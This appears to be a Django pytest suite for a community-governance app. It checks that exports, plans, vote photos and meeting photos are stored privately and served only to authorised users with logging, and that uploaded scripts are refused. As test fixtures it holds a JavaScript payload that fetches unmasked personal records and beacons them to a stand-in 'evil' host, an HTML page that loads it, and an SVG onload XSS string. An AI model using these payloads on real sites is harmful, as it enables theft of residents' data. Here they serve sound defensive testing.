"""Issue 11: generated and uploaded files are never public, and uploads can't run.

Each test reproduces a probe from outside (an anonymous GET of an export under /media/, an uploaded
page.html + payload.js) and checks it is refused today."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse
from django.utils import translation
from PIL import Image

from communities import backup, files
from communities.choices import JobStatus
from communities.errors import DomainError
from communities.jobs import start_job
from communities.models import AccessLog, BackgroundJob
from consultations.ballots import services as ballot_services
from consultations.ballots.models import Vote
from projects import services as project_services
from tests.ballots.factories import make_ballot, make_households, option
from tests.projects import factories as pf

HTML = b"<!doctype html><html><body><script src='payload.js'></script>hello</body></html>"
JS = b"fetch('/api/v1/people/?unmask=true').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
RANDOM_FILE = re.compile(r"/[0-9a-f]{32}\.[a-z]+$")


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 10)).save(out, "JPEG")
    return out.getvalue()


def assert_safe_file_headers(response, *, attachment: bool) -> None:
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    disposition = response.get("Content-Disposition", "")
    assert disposition.startswith("attachment") is attachment, disposition


def private_path(field_file) -> Path:
    return Path(field_file.storage.path(field_file.name))


@pytest.fixture
def run_on_commit(django_capture_on_commit_callbacks):
    def run(**kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            job = start_job(**kwargs)
        job.refresh_from_db()
        return job

    return run


@pytest.fixture
def project(world):
    return pf.ProjectFactory(name="民居巷血防站改造", division=world.street_a, compounds=[world.compound_a])


# --- 1. private storage, scoped views, logged downloads -------------------------------------------------


def test_export_is_stored_privately_under_an_unguessable_name(world, secretary_a, run_on_commit, settings):
    job = run_on_commit(
        kind="roster_export",
        handler="communities.roster.export_roster",
        user=secretary_a,
        params={"compound": world.compound_a.pk},
    )
    assert job.status == JobStatus.SUCCEEDED, job.message
    name = job.result_file.name
    # jobs/out/YYYY/MM/<32 random hex>/roster-<compound>-<stamp>.xlsx
    assert re.fullmatch(r"jobs/out/\d{4}/\d{2}/[0-9a-f]{32}/roster-\d+-[\d-]+\.xlsx", name), name
    path = private_path(job.result_file)
    assert path.is_file()
    assert Path(settings.PRIVATE_ROOT).resolve() in path.resolve().parents
    assert not (Path(settings.MEDIA_ROOT) / name).exists()
    assert job.result_file.url is None  # nothing can link to it directly


@pytest.mark.parametrize("path", ["/media/jobs/out/2026/12/roster-1-20261203-1315.xlsx", "/private/x.xlsx"])
def test_no_url_serves_a_stored_file(path, client, db):
    with pytest.raises(Resolver404):
        resolve(path)
    assert client.get(path).status_code == 404


def test_job_output_only_to_its_creator_and_logged(world, secretary_a, street_user, run_on_commit, client):
    job = run_on_commit(
        kind="roster_export",
        handler="communities.roster.export_roster",
        user=secretary_a,
        params={"compound": world.compound_a.pk},
    )
    url = reverse("communities:job_download", args=[job.pk])
    assert client.get(url).status_code == 302  # anonymous: to the login page
    client.force_login(street_user)  # sees the compound, but did not make the export
    assert client.get(url).status_code == 404
    assert not AccessLog.objects.filter(object_type="job").exists()
    client.force_login(secretary_a)
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content)[:2] == b"PK"
    assert_safe_file_headers(response, attachment=True)
    assert "no-store" in response["Cache-Control"]
    log = AccessLog.objects.get(object_type="job", user=secretary_a)
    assert log.object_id == str(job.pk) and log.action == AccessLog.Action.EXPORT


def test_plan_served_only_in_scope_as_attachment_and_logged(world, project, street_user, secretary_b, client):
    project_services.update_project(
        project,
        user=street_user,
        implementation_plan=SimpleUploadedFile("方案.pdf", files.demo_pdf("plan"), "application/pdf"),
    )
    project.refresh_from_db()
    assert project.implementation_plan.name.startswith("projects/plans/")
    assert RANDOM_FILE.search(project.implementation_plan.name) and project.implementation_plan.name.endswith(
        ".pdf"
    )
    url = reverse("projects:project_plan", args=[project.pk])
    client.force_login(secretary_b)  # community B: outside this street-A project
    assert client.get(url).status_code == 404
    client.force_login(street_user)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert_safe_file_headers(response, attachment=True)
    assert AccessLog.objects.filter(
        user=street_user, action=AccessLog.Action.DOWNLOAD, object_type="projects.project"
    ).exists()
    # the page and the API link to the view, never to a file path
    page = client.get(project.get_absolute_url()).content.decode()
    assert url in page and "/media/" not in page
    data = client.get(f"/api/v1/projects/{project.pk}/").json()
    assert data["implementation_plan"] == url


def test_evidence_photo_private_public_photo_public(world, project, street_user, client):
    from supervision.models import Photo

    private = Photo.objects.create(project=project, kind="during", image=ContentFile(jpeg_bytes(), "a.jpg"))
    public = Photo.objects.create(
        project=project, kind="after", is_public=True, image=ContentFile(jpeg_bytes(), "b.jpg")
    )
    for photo in (private, public):
        assert RANDOM_FILE.search(photo.image.name), photo.image.name
        assert private_path(photo.image).is_file()
    assert client.get(reverse("supervision:photo_file", args=[private.pk])).status_code == 302
    assert client.get(reverse("supervision:photo_public", args=[private.pk])).status_code == 404
    response = client.get(reverse("supervision:photo_public", args=[public.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert_safe_file_headers(response, attachment=False)
    assert not AccessLog.objects.exists()  # a public photo is no personal data: not logged
    client.force_login(street_user)
    response = client.get(reverse("supervision:photo_file", args=[private.pk]))
    assert response.status_code == 200
    assert_safe_file_headers(response, attachment=False)
    assert AccessLog.objects.filter(user=street_user, object_type="supervision.photo").count() == 1


def test_x_accel_redirect_mode_hands_the_file_to_the_proxy(world, project, street_user, client, settings):
    project.implementation_plan.save("plan.pdf", ContentFile(files.demo_pdf("x")), save=True)
    settings.PRIVATE_FILES_SERVE = "x-accel-redirect"
    client.force_login(street_user)
    response = client.get(reverse("projects:project_plan", args=[project.pk]))
    assert response.status_code == 200
    assert response["X-Accel-Redirect"] == f"/_private/{project.implementation_plan.name}"
    assert response.content == b""
    assert_safe_file_headers(response, attachment=True)
    assert AccessLog.objects.filter(user=street_user, object_type="projects.project").count() == 1
    settings.PRIVATE_FILES_SERVE = "x-sendfile"
    response = client.get(reverse("projects:project_plan", args=[project.pk]))
    assert response["X-Sendfile"] == str(private_path(project.implementation_plan))


def test_backup_includes_the_private_root(settings, tmp_path):
    settings.PRIVATE_ROOT = str(tmp_path / "private")
    roots = backup.file_roots()
    assert Path(settings.PRIVATE_ROOT).resolve() in roots.values()


def test_move_private_files_moves_old_public_files(world, project, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    old = Path(settings.MEDIA_ROOT) / "projects/plans/2025/实施方案.pdf"
    old.parent.mkdir(parents=True)
    old.write_bytes(files.demo_pdf("old"))
    type(project).objects.filter(pk=project.pk).update(implementation_plan="projects/plans/2025/实施方案.pdf")
    assert files.move_public_files() == {
        "moved": 1,
        "already_private": 0,
        "missing": 0,
        "secret_photos_detached": 0,
    }
    project.refresh_from_db()
    assert not old.exists()
    assert RANDOM_FILE.search(project.implementation_plan.name)
    assert private_path(project.implementation_plan).read_bytes().startswith(b"%PDF-")
    assert files.move_public_files()["already_private"] == 1


def test_an_old_html_plan_is_moved_as_bin_and_only_downloaded(
    world, project, street_user, client, settings, tmp_path
):
    """The probe's page.html, stored by an older version, can never render on our origin again."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    old = Path(settings.MEDIA_ROOT) / "projects/plans/2025/page.html"
    old.parent.mkdir(parents=True)
    old.write_bytes(HTML)
    type(project).objects.filter(pk=project.pk).update(implementation_plan="projects/plans/2025/page.html")
    files.move_public_files()
    project.refresh_from_db()
    assert project.implementation_plan.name.endswith(".bin")
    client.force_login(street_user)
    response = client.get(reverse("projects:project_plan", args=[project.pk]))
    assert response["Content-Type"] == "application/octet-stream"
    assert_safe_file_headers(response, attachment=True)


# --- 2. uploads can't run -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [("page.html", HTML), ("payload.js", JS), ("plan.pdf", HTML), ("evil.svg", b"<svg onload=alert(1)>")],
)
def test_plan_upload_checked_by_content(world, project, street_user, name, data):
    with pytest.raises(DomainError, match="Only PDF"):
        project_services.update_project(
            project, user=street_user, implementation_plan=SimpleUploadedFile(name, data, "text/html")
        )
    project.refresh_from_db()
    assert not project.implementation_plan


def test_plan_upload_refused_on_page_and_api(world, project, street_user, client, api_as):
    client.force_login(street_user)
    edit = reverse("projects:project_edit", args=[project.pk])
    form = client.get(edit).context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None and k != "implementation_plan"}
    data["compounds"] = [c.pk for c in project.compounds.all()]
    data["division"] = project.division_id
    data["implementation_plan"] = SimpleUploadedFile("page.html", HTML, "text/html")
    response = client.post(edit, data)
    assert response.status_code == 200
    assert "implementation_plan" in response.context["form"].errors
    response = api_as(street_user).patch(
        f"/api/v1/projects/{project.pk}/",
        {"implementation_plan": SimpleUploadedFile("payload.js", JS, "text/javascript")},
        format="multipart",
    )
    assert response.status_code == 400, response.content
    assert response.json()["field"] == "implementation_plan"
    project.refresh_from_db()
    assert not project.implementation_plan


def docx_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "ext"),
    [
        ("方案.docx", docx_bytes(), ".docx"),
        ("方案.html", docx_bytes(), ".docx"),  # the content decides, not the name
        ("scan.PDF", files.demo_pdf("scan"), ".pdf"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), ".doc"),
    ],
)
def test_office_and_pdf_plans_accepted_with_real_extension(world, project, street_user, name, data, ext):
    project_services.update_project(
        project, user=street_user, implementation_plan=SimpleUploadedFile(name, data)
    )
    project.refresh_from_db()
    assert project.implementation_plan.name.endswith(ext)


@pytest.fixture
def recorded_ballot(world, street_user):
    make_households(world.compound_a)
    return make_ballot(street_user, world.compound_a)


@pytest.mark.parametrize(("name", "data"), [("page.html", HTML), ("payload.js", JS), ("photo.jpg", HTML)])
def test_paper_vote_photo_must_be_a_photo(recorded_ballot, street_user, name, data):
    elector = recorded_ballot.electors.first()
    with pytest.raises(DomainError, match="photo"):
        ballot_services.record_staff_vote(
            user=street_user,
            elector=elector,
            option=option(recorded_ballot, "同意"),
            paper_serial="P-1",
            photo=SimpleUploadedFile(name, data, "text/html"),
        )
    assert not Vote.objects.exists()


def test_paper_vote_photo_stored_privately_and_served_to_vote_staff(
    recorded_ballot, street_user, viewer, client, api_as
):
    elector = recorded_ballot.electors.first()
    ballot_services.record_staff_vote(
        user=street_user,
        elector=elector,
        option=option(recorded_ballot, "同意"),
        paper_serial="P-1",
        photo=SimpleUploadedFile("IMG_0001.jpg", jpeg_bytes(), "image/jpeg"),
    )
    vote = Vote.objects.get()
    assert vote.photo.name.startswith("ballots/paper/") and RANDOM_FILE.search(vote.photo.name)
    assert private_path(vote.photo).is_file()
    url = reverse("ballots:vote_photo", args=[vote.pk])
    client.force_login(viewer)  # sees the ballot, may not enter votes: no signed forms
    assert client.get(url).status_code == 404
    client.force_login(street_user)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert_safe_file_headers(response, attachment=False)
    assert AccessLog.objects.filter(user=street_user, object_type="ballots.vote").count() == 1
    data = api_as(street_user).get(f"/api/v1/votes/{vote.pk}/").json()
    assert data["photo"] == url
    electors = client.get(reverse("ballots:elector_list", args=[recorded_ballot.pk])).content.decode()
    assert f'href="{url}"' in electors
    client.force_login(viewer)
    electors = client.get(reverse("ballots:elector_list", args=[recorded_ballot.pk])).content.decode()
    assert url not in electors


def test_paper_vote_page_refuses_html_photo(recorded_ballot, street_user, client):
    client.force_login(street_user)
    elector = recorded_ballot.electors.first()
    response = client.post(
        reverse("ballots:vote_enter", args=[recorded_ballot.pk]),
        {
            "elector": elector.pk,
            "option": option(recorded_ballot, "同意").pk,
            "channel": "paper",
            "paper_serial": "P-9",
            "photo": SimpleUploadedFile("page.html", HTML, "text/html"),
        },
    )
    assert response.status_code == 400
    assert not Vote.objects.exists()


def test_meeting_photo_served_by_scoped_view(world, street_user, secretary_b, client):
    from consultations import services as consultation_services
    from consultations.choices import MeetingKind

    meeting = consultation_services.create_meeting(
        user=street_user, kind=MeetingKind.values[0], title="板凳会", compound=world.compound_a
    )
    photo = consultation_services.add_meeting_photo(
        user=street_user, meeting=meeting, upload=SimpleUploadedFile("m.jpg", jpeg_bytes(), "image/jpeg")
    )
    assert RANDOM_FILE.search(photo.image.name)
    url = reverse("consultations:meeting_photo", args=[photo.pk])
    client.force_login(secretary_b)
    assert client.get(url).status_code == 404
    client.force_login(street_user)
    response = client.get(url)
    assert response.status_code == 200
    assert_safe_file_headers(response, attachment=False)
    assert AccessLog.objects.filter(user=street_user, object_type="consultations.meetingphoto").count() == 1
    page = client.get(meeting.get_absolute_url()).content.decode()
    assert url in page


def test_job_input_keeps_no_uploaded_name(world, secretary_a):
    job = BackgroundJob.objects.create(
        kind="x", handler="communities.jobs.ping_handler", created_by=secretary_a
    )
    job.input_file.save("page.html", ContentFile(HTML), save=True)
    assert job.input_file.name.startswith("jobs/in/") and job.input_file.name.endswith(".bin")


# --- 5. a secret ballot keeps no photo beside its voter ----------------------------------------------------


@pytest.fixture
def secret_ballot(world, street_user):
    make_households(world.compound_a)
    return make_ballot(street_user, world.compound_a, secret=True)


def test_secret_ballot_refuses_a_paper_photo_in_the_service(secret_ballot, street_user):
    elector = secret_ballot.electors.first()
    with pytest.raises(DomainError, match="secret"):
        ballot_services.record_staff_vote(
            user=street_user,
            elector=elector,
            option=option(secret_ballot, "同意"),
            paper_serial="S-1",
            photo=SimpleUploadedFile("form.jpg", jpeg_bytes(), "image/jpeg"),
        )
    assert not Vote.objects.exists()


def test_secret_ballot_paper_photo_refused_on_page_and_api(secret_ballot, street_user, client, api_as):
    elector = secret_ballot.electors.first()
    client.force_login(street_user)
    page = client.get(secret_ballot.get_absolute_url())
    assert page.status_code == 200
    assert 'name="photo"' not in page.content.decode()  # the page does not offer it
    data = {"elector": elector.pk, "option": option(secret_ballot, "同意").pk, "channel": "paper"}
    response = client.post(
        reverse("ballots:vote_enter", args=[secret_ballot.pk]),
        {**data, "paper_serial": "S-1", "photo": SimpleUploadedFile("f.jpg", jpeg_bytes(), "image/jpeg")},
    )
    assert response.status_code == 400 and "无记名表决：不保存纸质表决票照片" in response.content.decode()
    response = api_as(street_user).post(
        "/api/v1/votes/",
        {**data, "paper_serial": "S-2", "photo": SimpleUploadedFile("f.jpg", jpeg_bytes(), "image/jpeg")},
        format="multipart",
    )
    assert response.status_code == 400 and response.json()["field"] == "photo"
    assert not Vote.objects.exists()
    # without a photo the paper vote goes in
    response = api_as(street_user).post("/api/v1/votes/", {**data, "paper_serial": "S-3"}, format="multipart")
    assert response.status_code == 201, response.content
    assert not Vote.objects.get().photo


def test_existing_secret_photo_is_never_served(secret_ballot, street_user, client):
    """A photo stored on a secret ballot's vote by an older version stays away from everyone."""
    elector = secret_ballot.electors.first()
    ballot_services.record_staff_vote(
        user=street_user, elector=elector, option=option(secret_ballot, "同意"), paper_serial="S-1"
    )
    vote = Vote.objects.get()
    vote.photo.save("old.jpg", ContentFile(jpeg_bytes()), save=True)
    client.force_login(street_user)
    assert client.get(reverse("ballots:vote_photo", args=[vote.pk])).status_code == 404


def test_edit_form_links_the_private_plan_and_can_clear_it(world, project, street_user, client):
    project.implementation_plan.save("plan.pdf", ContentFile(files.demo_pdf("x")), save=True)
    client.force_login(street_user)
    edit = reverse("projects:project_edit", args=[project.pk])
    response = client.get(edit)
    html = response.content.decode()
    assert reverse("projects:project_plan", args=[project.pk]) in html
    assert 'name="implementation_plan-clear"' in html and 'accept=".pdf' in html
    form = response.context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None and k != "implementation_plan"}
    data |= {"compounds": [world.compound_a.pk], "division": project.division_id}
    data["implementation_plan-clear"] = "on"
    assert client.post(edit, data).status_code == 302
    project.refresh_from_db()
    assert not project.implementation_plan


def test_existing_secret_photo_is_detached_from_the_vote(secret_ballot, street_user, settings, tmp_path):
    """The upgrade step keeps an old photo apart from the elector, like the ballot box."""
    settings.PRIVATE_ROOT = str(tmp_path / "private")
    elector = secret_ballot.electors.first()
    ballot_services.record_staff_vote(
        user=street_user, elector=elector, option=option(secret_ballot, "同意"), paper_serial="S-1"
    )
    vote = Vote.objects.get()
    vote.photo.save("old.jpg", ContentFile(jpeg_bytes()), save=True)
    old = private_path(vote.photo)
    assert files.move_public_files()["secret_photos_detached"] == 1
    vote.refresh_from_db()
    assert not vote.photo and not old.exists()
    kept = list((Path(settings.PRIVATE_ROOT) / f"ballots/secret-paper/{secret_ballot.pk}").rglob("*.jpg"))
    assert len(kept) == 1  # the form is kept for the ballot, linked to no vote
    assert files.move_public_files()["secret_photos_detached"] == 0
